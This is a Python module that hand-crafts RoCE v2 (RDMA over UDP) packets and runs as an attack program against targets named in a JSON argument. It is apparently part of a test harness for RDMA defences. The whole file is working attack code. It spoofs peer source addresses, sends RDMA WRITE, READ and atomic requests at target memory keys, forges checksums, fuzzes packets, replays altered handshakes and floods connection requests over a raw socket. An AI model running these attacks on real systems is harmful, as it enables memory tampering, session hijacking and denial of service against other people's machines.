"""RoCE v2 packets by hand, mostly IPv4: what an attacker sends. Needs CAP_NET_RAW in its namespace.

Run as a program it attacks: `roce_packets.py JSON`, with what attack() takes.
"""

import json
import os
import random
import socket
import struct
import sys
import time
import zlib

PORT = 4791

# Operations of RC; UC's are 0x20 higher.
SEND_FIRST, SEND_LAST, SEND_ONLY, SEND_ONLY_IMMEDIATE = 0x00, 0x02, 0x04, 0x05
WRITE_FIRST, WRITE_MIDDLE, WRITE_ONLY, WRITE_ONLY_IMMEDIATE = 0x06, 0x07, 0x0A, 0x0B
READ_REQUEST, READ_RESPONSE_ONLY, ACKNOWLEDGE, ATOMIC_ACKNOWLEDGE = 0x0C, 0x10, 0x11, 0x12
COMPARE_SWAP, FETCH_ADD, SEND_ONLY_INVALIDATE = 0x13, 0x14, 0x17
UD_SEND, CNP = 0x64, 0x81


def packet(source, destination, operation, qpn, psn, extension=b"", payload=b"", *, sport=0xC123,
           ack_request=True, good=True):
    """An IPv4 packet with a right ICRC, or with a wrong one unless `good`."""
    pad = -len(payload) % 4
    transport = struct.pack(">BBHII", operation, 0x40 | pad << 4, 0xFFFF, qpn & 0xFFFFFF,
                            ack_request << 31 | psn & 0xFFFFFF)
    body = transport + extension + payload + bytes(pad)
    length = 20 + 8 + len(body) + 4
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    header = struct.pack(">BBHHHBBH", 0x45, 0, length, 0, 0x4000, 64, 17, 0) + addresses
    masked = (struct.pack(">BBHHHBBH", 0x45, 0xFF, length, 0, 0x4000, 0xFF, 17, 0xFFFF) + addresses
              + struct.pack(">HHHH", sport, PORT, length - 20, 0xFFFF)
              + body[:4] + b"\xff" + body[5:])
    check = zlib.crc32(b"\xff" * 8 + masked) ^ (0 if good else 0x10)
    return (header + struct.pack(">HHHH", sport, PORT, length - 20, 0) + body
            + struct.pack("<I", check))


def packet6(source, destination, payload, sport=0xC123):
    """An IPv6 packet to port 4791, with a right checksum."""
    length = 8 + len(payload)
    addresses = b"".join(socket.inet_pton(socket.AF_INET6, one) for one in (source, destination))
    datagram_ = struct.pack(">HHHH", sport, PORT, length, 0) + payload
    summed = addresses + struct.pack(">II", length, 17) + datagram_ + bytes(length % 2)
    total = sum(word for word, in struct.iter_unpack(">H", summed))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (struct.pack(">IHBB", 0x60000000, length, 17, 64) + addresses + datagram_[:6]
            + struct.pack(">H", ~total & 0xFFFF or 0xFFFF) + payload)


def check6(source, destination, body, sport=0xC123):
    """The ICRC of a payload that goes by IPv6."""
    length = 8 + len(body) + 4
    addresses = b"".join(socket.inet_pton(socket.AF_INET6, one) for one in (source, destination))
    masked = (struct.pack(">IHBB", 0x6FFFFFFF, length, 17, 0xFF) + addresses
              + struct.pack(">HHHH", sport, PORT, length, 0xFFFF) + body[:4] + b"\xff" + body[5:])
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + masked))


def reth(address, key, length):
    """Where a WRITE or READ goes."""
    return struct.pack(">QII", address & (1 << 64) - 1, key, length)


def aeth(syndrome, sequence=0):
    """What an acknowledgement says."""
    return struct.pack(">I", syndrome << 24 | sequence & 0xFFFFFF)


def atomic(address, key, swap_or_add, compare):
    """Where an atomic goes and what it does."""
    return struct.pack(">QIQQ", address & (1 << 64) - 1, key, swap_or_add, compare)


def deth(key, source_qpn):
    """Whom a datagram comes from."""
    return struct.pack(">II", key, source_qpn)


def every_request(source, destination, qpn, psn, memory, key, **more):
    """One packet of each kind of request, all aimed at `memory` with `key`."""
    data = b"\xdd" * 64
    yield packet(source, destination, SEND_ONLY, qpn, psn, b"", data, **more)
    yield packet(source, destination, SEND_ONLY_IMMEDIATE, qpn, psn, b"immd", data, **more)
    yield packet(source, destination, SEND_ONLY_INVALIDATE, qpn, psn, struct.pack(">I", key), data,
                 **more)
    yield packet(source, destination, SEND_FIRST, qpn, psn, b"", b"\xdd" * 1024, **more)
    yield packet(source, destination, SEND_LAST, qpn, psn, b"", data, **more)
    yield packet(source, destination, WRITE_ONLY, qpn, psn, reth(memory, key, 64), data, **more)
    yield packet(source, destination, WRITE_ONLY_IMMEDIATE, qpn, psn,
                 reth(memory, key, 64) + b"immd", data, **more)
    yield packet(source, destination, WRITE_FIRST, qpn, psn, reth(memory, key, 4096),
                 b"\xdd" * 1024, **more)
    yield packet(source, destination, WRITE_MIDDLE, qpn, psn, b"", b"\xdd" * 1024, **more)
    yield packet(source, destination, READ_REQUEST, qpn, psn, reth(memory, key, 4096), **more)
    yield packet(source, destination, FETCH_ADD, qpn, psn, atomic(memory & ~7, key, 1, 0), **more)
    yield packet(source, destination, COMPARE_SWAP, qpn, psn, atomic(memory & ~7, key, 1, 0),
                 **more)
    for unreliable in (0x24, 0x2A):
        extension = reth(memory, key, 64) if unreliable == 0x2A else b""
        yield packet(source, destination, unreliable, qpn, psn, extension, data, **more)


def every_response(source, destination, qpn, psn, **more):
    """One packet of each kind of response."""
    data = b"\xcc" * 64
    yield packet(source, destination, ACKNOWLEDGE, qpn, psn, aeth(0x1F, psn), **more)
    yield packet(source, destination, READ_RESPONSE_ONLY, qpn, psn, aeth(0x1F, psn), data, **more)
    yield packet(source, destination, ATOMIC_ACKNOWLEDGE, qpn, psn, aeth(0x1F, psn) + b"\xcc" * 8,
                 **more)
    for syndrome in (0x20, 0x60, 0x61, 0x62, 0x63, 0x64):
        yield packet(source, destination, ACKNOWLEDGE, qpn, psn, aeth(syndrome, psn), **more)


def mutated(rng, whole, again=True):
    """The packet with some bytes of its UDP payload changed, cut off or added. The sequence number
    stays: a right one, by chance, from a forged source would be a valid packet."""
    body = bytearray(whole[28:])
    for _ in range(rng.randrange(1, 6)):
        at = rng.randrange(len(body))
        if at not in (9, 10, 11):
            body[at] = rng.randrange(256)
    cut = rng.randrange(4)
    if cut == 0:
        del body[rng.randrange(len(body) + 1):]
    elif cut == 1:
        body += os.urandom(rng.randrange(1, 64))
    source, destination = socket.inet_ntoa(whole[12:16]), socket.inet_ntoa(whole[16:20])
    return datagram(source, destination, bytes(body), again)


def datagram(source, destination, body, checked=False, sport=0xC123):
    """An IPv4 packet with any bytes to port 4791; `checked`: its last four become a right ICRC."""
    length = 28 + len(body)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    if checked and len(body) >= 16:
        masked = (struct.pack(">BBHHHBBH", 0x45, 0xFF, length, 0, 0x4000, 0xFF, 17, 0xFFFF)
                  + addresses + struct.pack(">HHHH", sport, PORT, length - 20, 0xFFFF)
                  + body[:4] + b"\xff" + body[5:-4])
        body = body[:-4] + struct.pack("<I", zlib.crc32(b"\xff" * 8 + masked))
    return (struct.pack(">BBHHHBBH", 0x45, 0, length, 0, 0x4000, 64, 17, 0) + addresses
            + struct.pack(">HHHH", sport, PORT, length - 20, 0) + body)


class Sender:
    """Sends packets made by hand, whatever source they name."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.count = 0

    def send(self, whole):
        """Sends an IPv4 packet."""
        try:
            self.socket.sendto(whole, (socket.inet_ntoa(whole[16:20]), 0))
            self.count += 1
        except OSError as error:
            if error.errno != 105:  # ENOBUFS
                raise


def attack(kind, seconds, targets, own, seed=1, rate=2000, least=0):
    """Sends until `seconds` are over and there were `least` packets, `rate` a second at most; says
    when it has begun, and in the end how many there were.

    A target: {"address", "peer", "qpns", "psns": [from, to], "memory", "key"}.
    """
    rng, sender, has_begun = random.Random(seed), Sender(), False
    end = time.monotonic() + seconds
    started = time.monotonic()
    for whole in _KINDS[kind](rng, targets, own):
        now = time.monotonic()
        if now > end and sender.count >= least:
            break
        due = started + sender.count / rate
        if due > now:
            time.sleep(min(due - now, 0.05))
        sender.send(whole)
        if not has_begun:
            print("begun", flush=True)
        has_begun = True
    print(sender.count, "packets", flush=True)


def _aimed(rng, target, source, good=True):
    """All kinds at one QP of the target, with a sequence number of the range."""
    qpn, psn = rng.choice(target["qpns"]), rng.randint(*target["psns"])
    key, memory = target.get("key", rng.getrandbits(32)), target.get("memory", rng.getrandbits(47))
    return [*every_request(source, target["address"], qpn, psn, memory, key, good=good),
            *every_response(source, target["address"], qpn, psn, good=good)]


def _from_own_address(rng, targets, own):
    while True:
        for target in targets:
            yield from _aimed(rng, target, own)


def _spoofed(rng, targets, _own):
    while True:
        for target in targets:
            yield from _aimed(rng, target, target["peer"])


def _spoofed_with_a_wrong_check(rng, targets, _own):
    while True:
        for target in targets:
            yield from _aimed(rng, target, target["peer"], good=False)


def _fuzzed(rng, targets, own):
    while True:
        for target in targets:
            for whole in _aimed(rng, target, rng.choice([own, target["peer"]])):
                yield mutated(rng, whole, rng.random() < 0.8)
            yield datagram(own, target["address"], os.urandom(rng.randrange(0, 1472)))


def _datagrams(rng, targets, own):
    while True:
        for target in targets:
            for qpn in target["qpns"]:
                for operation in (UD_SEND, UD_SEND + 1):
                    extension = deth(rng.getrandbits(32) | 1, rng.getrandbits(24))
                    yield packet(own, target["address"], operation, qpn, rng.getrandbits(24),
                                 extension + (b"immd" if operation != UD_SEND else b""),
                                 b"\xdd" * rng.randrange(0, 1024))


def _strangers(rng, targets, own):
    """Datagrams with the right key, from ever new queue pairs."""
    number = 0
    while True:
        for target in targets:
            for qpn in target["qpns"]:
                number += 1
                yield packet(own, target["address"], UD_SEND, qpn, number,
                             deth(target["qkey"], 0x800 + number), b"\xdd" * 32)


def _handshakes(rng, targets, own):
    """Datagrams of the handshake, overheard (in hexadecimal) or made up, from any address."""
    while True:
        for target in targets:
            for body in target["bodies"]:
                whole = bytes.fromhex(body)
                for source in [own, *target["peers"]]:
                    if source != target["address"]:
                        yield datagram(source, target["address"], whole, sport=PORT)
                        number = rng.randbytes(16)
                        yield datagram(source, target["address"],
                                       whole[:20] + number + whole[36:], sport=PORT)


def _requests(rng, targets, own):
    """Requests for connections, each another one: to who listens at the ports of a target, from
    our own address."""
    while True:
        for target in targets:
            for port in target["ports"]:
                body = bytearray(232)
                struct.pack_into(">IIQQ", body, 0, rng.getrandbits(32) | 1, 0,
                                 0x01060000 | port, rng.getrandbits(64))
                struct.pack_into(">I", body, 32, (rng.getrandbits(23) | 1) << 8 | 1)
                struct.pack_into(">I", body, 36, 1)
                body[43], body[44:48], body[48:50] = 0xA0, rng.randbytes(3) + b"\xa7", b"\xff\xff"
                body[50], body[51] = 0x37, 0xF0
                body[52:56] = b"\xff" * 4
                addresses = [bytes(10) + b"\xff\xff" + socket.inet_aton(text)
                             for text in (own, target["address"])]
                body[56:88] = b"".join(addresses)
                body[93], body[95] = 64, 0x98
                ours, theirs = (bytes(12) + address[12:] for address in addresses)
                head = struct.pack(">BBH", 0, 0x40, 5000) + ours + theirs
                mad = struct.pack(">BBBBIQHHI", 1, 7, 2, 3, 0, rng.getrandbits(64), 0x10, 0, 0)
                whole = mad + bytes(body[:140]) + head + bytes(56)
                yield packet(own, target["address"], UD_SEND, 1, rng.getrandbits(24),
                             deth(0x80010000, 1), whole)


def connect_request(rng, own, other, port):
    """The UDP payload of one such request."""
    return next(_requests(rng, [{"address": other, "ports": [port]}], own))[28:]


_KINDS = {"handshakes": _handshakes, "own": _from_own_address, "spoofed": _spoofed,
          "unchecked": _spoofed_with_a_wrong_check, "fuzzed": _fuzzed, "datagrams": _datagrams,
          "strangers": _strangers, "requests": _requests}


if __name__ == "__main__":
    attack(**json.loads(sys.argv[1]))
